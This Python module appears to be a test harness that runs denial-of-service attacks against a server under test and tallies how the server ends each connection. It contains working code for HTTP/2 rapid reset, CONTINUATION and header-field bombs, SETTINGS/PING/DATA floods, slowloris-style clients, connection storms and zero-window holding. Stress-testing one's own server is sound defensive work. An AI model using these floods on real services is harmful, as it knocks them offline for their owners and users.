"""What the clients of ``floods.py`` do, and how the server ends it.

Every attack runs until a time of ``time.monotonic`` and returns a ``Count``: how much it sent, and how each
of its connections or requests ended. What counts as an end: a status of HTTP or gRPC, GOAWAY or RST_STREAM
with its code, a closed connection. ``NOTHING`` is none: the server has neither answered nor closed.
"""

from __future__ import annotations

import random
import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field

import hpack
import malformed
from hostile import BODY, PREDICT, PREFACE, call_head, connect, frame
from hpack.exceptions import HPACKError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

SLOW = 500
STORM = 2_000
MALFORMED = 10_000
FIELDS = 100_000
AT_ONCE = 16
NOTHING = "nothing"
OPEN = "open at the end"
"""A connection that the attack itself closed, as its time was over."""
LONGEST_WAIT = 60.0
CODES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}


@dataclass
class Count:
    """How much was sent (frames, bytes or requests: what the attack is made of), and how it ended."""

    sent: int = 0
    ends: Counter[str] = field(default_factory=Counter)


@dataclass(frozen=True)
class Ports:
    """The ports of the server under attack."""

    rest: int
    grpc: int


Attack = Callable[[Ports, float], Count]


# ---- how the server ends a connection


class Ending:
    """Reads what the server sends on one connection, and says how it ended."""

    def __init__(self, over_http2: bool) -> None:
        self._over_http2 = over_http2
        self._data = b""
        self._decoder = hpack.Decoder()
        self._seen: list[str] = []
        self.is_closed = False

    def take(self, data: bytes) -> None:
        """Takes what was read; nothing for the end."""
        self._data += data
        self.is_closed |= not data
        if self._over_http2:
            self._frames()
        while self._data.startswith(b"HTTP/1.1 100 ") and b"\r\n\r\n" in self._data:
            # An interim answer.
            self._data = self._data.partition(b"\r\n\r\n")[2]

    def lost(self) -> None:
        """The connection was reset."""
        self.is_closed = True

    def is_answered(self) -> bool:
        """True once there is a status, or the end."""
        return self.is_closed or bool(self._seen) or (not self._over_http2 and b"\r\n\r\n" in self._data)

    def said(self) -> str:
        """Returns the end, in a few words."""
        if not self._over_http2 and self._data.startswith(b"HTTP/1.1 "):
            return self._data[9:12].decode()
        if self._seen:
            return self._seen[-1]
        return "closed" if self.is_closed else NOTHING

    def _frames(self) -> None:
        while len(self._data) >= 9:
            length = int.from_bytes(self._data[:3], "big")
            if len(self._data) < 9 + length:
                return
            one, _ = Frame.parse_frame_header(memoryview(self._data[:9]))
            one.parse_body(memoryview(self._data[9 : 9 + length]))
            self._data = self._data[9 + length :]
            self._note(one)

    def _note(self, one: Frame) -> None:
        if isinstance(one, GoAwayFrame):
            self._seen.append(f"GOAWAY {CODES.get(one.error_code, one.error_code)}")
        elif isinstance(one, RstStreamFrame):
            self._seen.append(f"RST_STREAM {CODES.get(one.error_code, one.error_code)}")
        elif isinstance(one, HeadersFrame):
            with suppress(HPACKError):
                fields = {_text(name): _text(value) for name, value in self._decoder.decode(one.data)}
                if "grpc-status" in fields:
                    self._seen.append(f"grpc-status {fields['grpc-status']}")
                elif fields.get(":status") != "200":
                    self._seen.append(f"status {fields.get(':status')}")


def _text(part: str | bytes) -> str:
    return part if isinstance(part, str) else part.decode("latin-1")


def wait_for(sock: socket.socket, ending: Ending, until: float) -> None:
    """Reads until there is a status or the end, or the time is over."""
    while not ending.is_answered():
        left = until - time.monotonic()
        if left <= 0:
            return
        sock.settimeout(left)
        try:
            ending.take(sock.recv(65536))
        except TimeoutError:
            return
        except OSError:
            ending.lost()


# ---- HTTP/2: frames without end


def http2_flood(opening: Callable[[], bytes], pieces: Callable[[], Iterator[tuple[bytes, int]]]) -> Attack:
    """Sends ``pieces`` (bytes, and their number of frames) after ``opening``; connects again when cut off."""

    def run(ports: Ports, until: float) -> Count:
        count = Count()
        while time.monotonic() < until:
            ending = Ending(over_http2=True)
            with connect(ports.grpc) as sock:
                try:
                    sock.sendall(PREFACE + frame(4, 0, 0) + opening())
                    _pour(sock, ending, pieces(), until, count)
                except OSError:
                    # What it said before is still to be read.
                    _drain(sock, ending)
            count.ends[ending.said() if ending.is_closed or ending.is_answered() else OPEN] += 1
        return count

    return run


def _pour(
    sock: socket.socket, ending: Ending, pieces: Iterator[tuple[bytes, int]], until: float, count: Count
) -> None:
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        sock.setblocking(False)
        rest = b""
        is_all_sent = False
        while time.monotonic() < until and not ending.is_closed:
            for _, events in selector.select(0.1):
                if events & selectors.EVENT_READ:
                    ending.take(sock.recv(65536))
                elif rest:
                    rest = rest[sock.send(rest) :]
                elif piece := next(pieces, None):
                    rest, frames = piece
                    count.sent += frames
                else:
                    is_all_sent = True
                    selector.modify(sock, selectors.EVENT_READ)
            if is_all_sent and ending.is_answered():
                return


def _drain(sock: socket.socket, ending: Ending) -> None:
    sock.settimeout(1.0)
    with suppress(OSError):
        while data := sock.recv(65536):
            ending.take(data)
    ending.lost()


def again(piece: Frame | bytes, frames: int = 500) -> Callable[[], Iterator[tuple[bytes, int]]]:
    """Returns the same frame without end, many at once."""
    data = piece if isinstance(piece, bytes) else piece.serialize()

    def pieces() -> Iterator[tuple[bytes, int]]:
        while True:
            yield data * frames, frames

    return pieces


def resets() -> Iterator[tuple[bytes, int]]:
    """Calls that are reset at once."""
    head, stream = call_head(), 1
    while True:
        calls = b""
        for _ in range(100):
            calls += HeadersFrame(stream, head, flags=["END_HEADERS"]).serialize()
            calls += RstStreamFrame(stream, error_code=8).serialize()
            stream += 2
        yield calls, 200


def fields() -> Iterator[tuple[bytes, int]]:
    """A hundred thousand header fields of one call, of a byte each: they refer to the first of them."""
    first = b"\x40\x01x\x01y"
    yield HeadersFrame(1, call_head() + first, flags=["END_STREAM"]).serialize(), 1
    left = FIELDS - 1
    while left > 0:
        some = min(left, 10_000)
        left -= some
        yield ContinuationFrame(1, b"\xbe" * some, flags=[] if left else ["END_HEADERS"]).serialize(), 1


def open_call(*flags: str) -> bytes:
    """Returns the head of a call."""
    return bytes(HeadersFrame(1, call_head(), flags=list(flags)).serialize())


def settings_of_many() -> SettingsFrame:
    """Returns a SETTINGS frame that changes something."""
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})


def zero_windows(ports: Ports, until: float) -> Count:
    """Holds 64 connections with a window of nothing, and 16 calls each whose replies are never taken."""
    count = Count()
    held: dict[socket.socket, Ending] = {}
    no_window = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    message = b"\0" + len(malformed.GOOD_CALL).to_bytes(4, "big") + malformed.GOOD_CALL
    while time.monotonic() < until:
        while len(held) < 64:
            sock, ending = connect(ports.grpc), Ending(over_http2=True)
            calls = b""
            for stream in range(1, 33, 2):
                calls += HeadersFrame(stream, call_head(), flags=["END_HEADERS"]).serialize()
                calls += DataFrame(stream, message, flags=["END_STREAM"]).serialize()
            sock.sendall(PREFACE + no_window + calls)
            held[sock] = ending
            count.sent += 16
        _read_some(held, count, until)
    for sock, ending in held.items():
        # A call that is younger than the time that a client has for its reply.
        count.ends[ending.said() if ending.is_answered() else OPEN] += 1
        sock.close()
    return count


def _read_some(held: dict[socket.socket, Ending], count: Count, until: float) -> None:
    """Reads what there is, and lets go of connections whose calls have ended."""
    pause = min(until, time.monotonic() + 0.2)
    for sock, ending in list(held.items()):
        wait_for(sock, ending, time.monotonic() + 0.0005)
        if ending.is_answered():
            count.ends[ending.said()] += 1
            sock.close()
            del held[sock]
    time.sleep(max(0.0, pause - time.monotonic()))


# ---- slow clients


def slow(begin: bytes, drip: bytes) -> Attack:
    """Five hundred clients that send ``begin``, and then a byte of ``drip`` each half second."""

    def run(ports: Ports, until: float) -> Count:
        count = Count()
        clients: list[tuple[socket.socket, Iterator[int]]] = []
        while time.monotonic() < until:
            while len(clients) < SLOW:
                sock = connect(ports.rest)
                sock.sendall(begin)
                sock.setblocking(False)
                clients.append((sock, iter(drip)))
            beat = time.monotonic() + 0.5
            clients = [client for client in clients if _drip(client, count)]
            time.sleep(max(0.0, min(beat, until) - time.monotonic()))
        for sock, _ in clients:
            count.ends[OPEN] += 1
            sock.close()
        return count

    return run


def _drip(client: tuple[socket.socket, Iterator[int]], count: Count) -> bool:
    """Sends the next byte; False if the server has ended it."""
    sock, drip = client
    try:
        count.sent += sock.send(bytes([next(drip)]))
        said = sock.recv(65536)
        count.ends[said[9:12].decode() if said else "closed"] += 1
    except BlockingIOError:
        return True
    except OSError:
        count.ends["closed"] += 1
    sock.close()
    return False


def heads() -> Attack:
    """Sends heads of requests."""
    line = f"POST {PREDICT} HTTP/1.1\r\n".encode()
    return slow(line[:1], line[1:] + b"Padding: " + b"x" * 10_000)


def bodies() -> Attack:
    """Sends bodies."""
    head = f"POST {PREDICT} HTTP/1.1\r\nHost: x\r\nContent-Length: 10000\r\n\r\n"
    return slow(head.encode(), BODY[:1] + b" " * 9_999)


def replies(ports: Ports, until: float) -> Count:
    """Up to five hundred clients that leave replies of 300 KB unread for eight seconds, then look at them."""
    body = b'{"instances": [' + b"0.1234567," * 19_999 + b"1.0]}"
    request = f"POST {PREDICT} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
    count = Count()
    clients: list[tuple[socket.socket, float]] = []
    while time.monotonic() < until:
        beat = time.monotonic() + 0.5
        # A few at a time: it is not the runs of the model that are to keep the server busy.
        for _ in range(min(SLOW - len(clients), SLOW // 12)):
            clients.append((_without_a_window(ports.rest, request), time.monotonic() + 8.0))
            count.sent += 1
        while clients and clients[0][1] < time.monotonic():
            sock, _ = clients.pop(0)
            count.ends[_unread(sock)] += 1
        time.sleep(max(0.0, min(beat, until) - time.monotonic()))
    for sock, _ in clients:
        count.ends[OPEN] += 1
        sock.close()
    return count


def _without_a_window(port: int, request: bytes) -> socket.socket:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    # The system keeps some segments for the client, and those of this machine are of 64 KB by default.
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1000)
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    sock.sendall(request)
    return sock


def _received(sock: socket.socket) -> bytes:
    """Returns what can be read; nothing at the end, which may be a reset."""
    try:
        return sock.recv(65536)
    except ConnectionError:
        return b""


def _unread(sock: socket.socket) -> str:
    """Reads what is left of a reply; returns whether the server has cut it off."""
    data = b""
    with sock, suppress(TimeoutError):
        sock.settimeout(5.0)
        while more := _received(sock):
            data += more
            head, _, content = data.partition(b"\r\n\r\n")
            length = head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
            if length and len(content) >= int(length):
                return "read whole"
        return "closed"
    return NOTHING


# ---- many requests


def storm(ports: Ports, until: float) -> Count:
    """Two thousand connections at once, each with one good request; again and again."""
    count = Count()
    request = f"POST {PREDICT} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(BODY)}\r\n\r\n".encode() + BODY
    while time.monotonic() < until:
        socks = [connect(ports.rest) for _ in range(STORM)]
        for sock in socks:
            with suppress(OSError):
                sock.sendall(request)
        count.sent += STORM
        late = time.monotonic() + LONGEST_WAIT
        for sock in socks:
            ending = Ending(over_http2=False)
            wait_for(sock, ending, late)
            count.ends[ending.said()] += 1
            sock.close()
    return count


def requests_of(cases: Callable[[random.Random], bytes], over_http2: bool) -> Attack:
    """Ten thousand requests, each on a connection of its own, a few at once, however long that takes."""

    def run(ports: Ports, _until: float) -> Count:
        count, source = Count(), random.Random(1)
        while count.sent < MALFORMED:
            socks = [connect(ports.grpc if over_http2 else ports.rest) for _ in range(AT_ONCE)]
            for sock in socks:
                with suppress(OSError):
                    sock.sendall(cases(source))
                    sock.shutdown(socket.SHUT_WR)
            late = time.monotonic() + LONGEST_WAIT
            for sock in socks:
                ending = Ending(over_http2)
                wait_for(sock, ending, late)
                count.ends[ending.said()] += 1
                sock.close()
            count.sent += AT_ONCE
        return count

    return run


def http1_fields(ports: Ports, until: float) -> Count:
    """Sends a hundred thousand header fields over HTTP/1.1."""
    count = Count()
    lines = b"".join(b"x%d: y\r\n" % number for number in range(FIELDS))
    request = f"POST {PREDICT} HTTP/1.1\r\nHost: x\r\n".encode() + lines + b"\r\n"
    while time.monotonic() < until:
        ending = Ending(over_http2=False)
        with connect(ports.rest) as sock:
            with suppress(OSError):
                sock.sendall(request)
            wait_for(sock, ending, time.monotonic() + LONGEST_WAIT)
        count.sent += FIELDS
        count.ends[ending.said()] += 1
    return count


def busy(_ports: Ports, until: float) -> Count:
    """Not an attack: as much work as one, in a process beside."""
    count = Count()
    near, far = socket.socketpair()
    with near, far:
        while time.monotonic() < until:
            near.sendall(b"." * 8192)
            far.recv(65536)
            count.sent += 1
    count.ends["none"] += 1
    return count


PING = struct.pack(">Q", 1)
ATTACKS: dict[str, Attack] = {
    "busy": busy,
    f"{SLOW} heads, a byte at a time": heads(),
    f"{SLOW} bodies, a byte at a time": bodies(),
    f"{SLOW} replies that are not read": replies,
    f"{MALFORMED:,} malformed requests, REST": requests_of(malformed.rest, over_http2=False),
    f"{MALFORMED:,} malformed requests, gRPC": requests_of(malformed.grpc, over_http2=True),
    f"storm of {STORM:,} connections": storm,
    f"{FIELDS:,} header fields, REST": http1_fields,
    f"{FIELDS:,} header fields, gRPC": http2_flood(lambda: b"", fields),
    "rapid reset": http2_flood(lambda: b"", resets),
    "CONTINUATION": http2_flood(open_call, again(ContinuationFrame(1, b"\0\1x\1y" * 20))),
    "empty CONTINUATION": http2_flood(open_call, again(ContinuationFrame(1, b""))),
    "SETTINGS": http2_flood(lambda: b"", again(settings_of_many())),
    "PING": http2_flood(lambda: b"", again(PingFrame(0, PING))),
    "empty DATA": http2_flood(lambda: open_call("END_HEADERS"), again(DataFrame(1, b""))),
    "zero windows held": zero_windows,
}
"""Name → attack, in the order of the table."""
